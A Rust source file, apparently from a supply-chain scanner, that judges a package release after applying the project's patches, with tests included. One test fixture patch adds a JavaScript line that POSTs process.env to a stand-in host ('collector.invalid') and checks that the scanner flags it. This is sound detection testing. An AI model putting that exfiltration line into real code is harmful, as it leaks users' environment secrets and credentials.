//! The pure function at the centre: from an artifact and its context to a judgement.
//!
//! No disk, network, clock or environment: the same job gives the same judgement on any machine.
//! Tests call it in process; the program runs it in the worker processes of [`crate::worker`].

use std::borrow::Cow;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::thread;

use stockade_facts::ProjectPatch;
use stockade_model::{Gap, GapKind, Judgement, Limits, Tree};
use stockade_parse::patch;

use crate::job::{Job, JobArtifact, Ran};

mod emulation;

/// Stack of the thread that judges, in bytes. Syntax trees are walked recursively; at the depth limit of
/// `Limits::script_depth` that touches a few megabytes, and inputs that slip past the depth count
/// (left-deep concatenations of a million terms) need up to 60 bytes a source byte (docs/src/limits.md). Only
/// touched pages cost memory.
pub const STACK_BYTES: usize = 512 << 20;

/// What we believe of the release in `job`. Where its code has to be run, `run` does so; none where it cannot.
///
/// Recurses as deep as the artifact's code is nested: call it on a thread with [`STACK_BYTES`] of stack,
/// as [`judge_on_own_stack`] does. A panic of ours becomes a gap of the release.
#[must_use]
pub fn judge(job: &Job, limits: &Limits, run: &mut dyn FnMut() -> Option<Ran>) -> Judgement {
    catch_unwind(AssertUnwindSafe(|| examine(job, limits, run))).unwrap_or_else(|_| {
        Judgement::unexamined(Gap::new(
            GapKind::Worker,
            "an error of ours ended the examination; please report the release's name and version",
        ))
    })
}

/// [`judge`] on a thread of its own with enough stack, for tests and tools that judge a few releases by reading
/// alone.
#[must_use]
pub fn judge_on_own_stack(job: &Job, limits: &Limits) -> Judgement {
    thread::scope(|scope| {
        thread::Builder::new()
            .name("judge".to_owned())
            .stack_size(STACK_BYTES)
            .spawn_scoped(scope, || judge(job, limits, &mut || None))
            .ok()
            .and_then(|handle| handle.join().ok())
    })
    .unwrap_or_else(|| {
        Judgement::unexamined(Gap::new(GapKind::Worker, "no thread to judge on could be started"))
    })
}

fn examine(job: &Job, limits: &Limits, run: &mut dyn FnMut() -> Option<Ran>) -> Judgement {
    match &job.artifact {
        JobArtifact::Archive(bytes) => {
            examine_tree(&stockade_unpack::archive(bytes, limits), job, limits, run)
        }
        JobArtifact::Tree(tree) => examine_tree(tree, job, limits, run),
    }
}

fn examine_tree(tree: &Tree, job: &Job, limits: &Limits, run: &mut dyn FnMut() -> Option<Ran>) -> Judgement {
    let (patched, patch_gaps) = patched(tree, &job.context.patches);
    let facts = stockade_facts::gather(patched.as_ref(), &job.context, limits);
    let (findings, rule_gaps) = stockade_rules::run(&facts);
    let gaps = facts.gaps().iter().cloned().chain(rule_gaps).chain(patch_gaps).collect();
    let read = stockade_verdict::judge(findings, gaps, facts.capabilities().clone());
    emulation::observe(read, facts, job, limits, run)
}

/// The release as it is after the project's patches, and those that do not fit.
fn patched<'t>(tree: &'t Tree, patches: &[ProjectPatch]) -> (Cow<'t, Tree>, Vec<Gap>) {
    let (mut patched, mut gaps) = (Cow::Borrowed(tree), Vec::new());
    for ProjectPatch { path, text, folder } in patches {
        match patch::read(text, folder).and_then(|patch| patch::apply(&patched, &patch)) {
            Ok(tree) => patched = Cow::Owned(tree),
            Err(error) => {
                let reason = format!(
                    "this patch was not applied, so what it changes was not examined: {error}; read it"
                );
                gaps.push(Gap::new(GapKind::Unsupported, reason).in_file(path));
            }
        }
    }
    (patched, gaps)
}

#[cfg(test)]
mod tests {
    use stockade_facts::Context;
    use stockade_model::Verdict;

    use super::*;

    fn judged(patch: &str) -> Judgement {
        let tree = stockade_unpack::text(
            "== package.json\n{\"name\": \"a\", \"main\": \"index.js\"}\n== index.js\n1;\n",
        )
        .unwrap();
        let patch =
            ProjectPatch { path: "patches/a.patch".into(), text: patch.into(), folder: String::new() };
        let context = Context { patches: vec![patch], ..Context::default() };
        judge_on_own_stack(&Job::new(JobArtifact::Tree(tree), context), &Limits::default())
    }

    #[test]
    fn what_a_patch_adds_is_judged() {
        let judgement = judged(
            "--- a/index.js\n+++ b/index.js\n@@ -1 +1,2 @@\n 1;\n+fetch(\"https://collector.invalid\", {method: \"POST\", body: JSON.stringify(process.env)});\n",
        );
        assert_eq!(judgement.verdict, Verdict::Suspicious);
        assert!(judgement.gaps.is_empty());
    }

    #[test]
    fn a_patch_that_does_not_fit_is_a_gap() {
        let judgement = judged("--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-9;\n+2;\n");
        assert_eq!(judgement.verdict, Verdict::Unknown);
        assert_eq!(judgement.gaps[0].file.as_deref(), Some("patches/a.patch"));
        assert!(
            judgement.gaps[0]
                .reason
                .contains("`index.js` has other lines than the patch expects near line 1")
        );
    }
}
